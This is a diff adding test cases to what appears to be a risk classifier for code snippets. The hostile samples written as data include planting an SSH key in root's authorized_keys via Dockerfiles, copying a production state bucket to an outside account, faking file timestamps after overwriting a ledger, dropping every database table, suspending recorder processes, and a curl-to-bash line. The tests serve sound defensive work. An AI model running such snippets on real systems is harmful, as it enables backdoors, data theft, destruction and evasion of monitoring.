@@ -13258,6 +13258,82 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '-fsSL http://203.0.113.9/i.sh | bash\\\\"");\')\n',
             C,
         ),
+        # holdout484-491: Dockerfiles written from Python, verified downloads, object keys, third-party Sessions,
+        # dates copied back, tool caches, live SQLite tables, recorders suspended
+        (
+            'from pathlib import Path\n'
+            'for df in Path("images").rglob("Dockerfile"):\n'
+            '    df.write_text(df.read_text() + "\\nRUN echo \'ssh-ed25519 AAAA k\' >> /root/.ssh/authorized_key'
+            's\\n")\n',
+            C,
+        ),
+        (
+            'import hashlib, urllib.request\n'
+            'blob = urllib.request.urlopen("https://github.com/x/y/releases/download/v1/tool").read()\n'
+            'if hashlib.sha256(blob).hexdigest() != "ab" * 32:\n'
+            '    raise SystemExit(1)\n'
+            'open("bin/tool", "wb").write(blob)\n',
+            M,
+        ),
+        (
+            'import boto3\n'
+            'from moto import mock_aws\n'
+            'with mock_aws():\n'
+            '    c = boto3.client("s3", region_name="us-east-1")\n'
+            '    c.create_bucket(Bucket="t")\n'
+            '    c.put_object(Bucket="t", Key="dev/terraform.tfstate", Body=b"{}")\n',
+            M,
+        ),
+        (
+            'import boto3\n'
+            'src = boto3.client("s3")\n'
+            'dst = boto3.Session(aws_access_key_id="AKIA4EXAMPLE7QWERTYZ", aws_secret_access_key="x").client('
+            '"s3")\n'
+            'for o in src.list_objects_v2(Bucket="prod-state")["Contents"]:\n'
+            '    dst.put_object(Bucket="archive-1", Key=o["Key"], Body=src.get_object(Bucket="prod-state", Ke'
+            'y=o["Key"])["Body"].read())\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'src = "/srv/registry/ledger.csv"\n'
+            'with open(src, "w") as f:\n'
+            '    f.write("x")\n'
+            'shutil.copystat(src + ".bak", src)\n',
+            H,
+        ),
+        (
+            'import gzip, shutil\n'
+            'src = "/var/log/app/app.log.1"\n'
+            'with open(src, "rb") as a, gzip.open(src + ".gz", "wb") as b:\n'
+            '    shutil.copyfileobj(a, b)\n'
+            'shutil.copystat(src, src + ".gz")\n',
+            L,
+        ),
+        (
+            'import os, time\n'
+            'cut = time.time() - 86400 * 30\n'
+            'for root, _, files in os.walk(os.path.expanduser("~/.terraform.d/plugin-cache")):\n'
+            '    for f in files:\n'
+            '        p = os.path.join(root, f)\n'
+            '        if os.path.getmtime(p) < cut:\n'
+            '            os.remove(p)\n',
+            M,
+        ),
+        (
+            'import sqlite3\n'
+            'db = sqlite3.connect("/var/lib/shop/shop.sqlite")\n'
+            'for (t,) in db.execute("SELECT name FROM sqlite_master WHERE type=\'table\'").fetchall():\n'
+            '    db.execute(f\'DROP TABLE IF EXISTS "{t}"\')\n',
+            H,
+        ),
+        (
+            'import psutil\n'
+            'for p in psutil.process_iter(["name"]):\n'
+            '    if "nvr" in (p.info["name"] or ""):\n'
+            '        p.suspend()\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
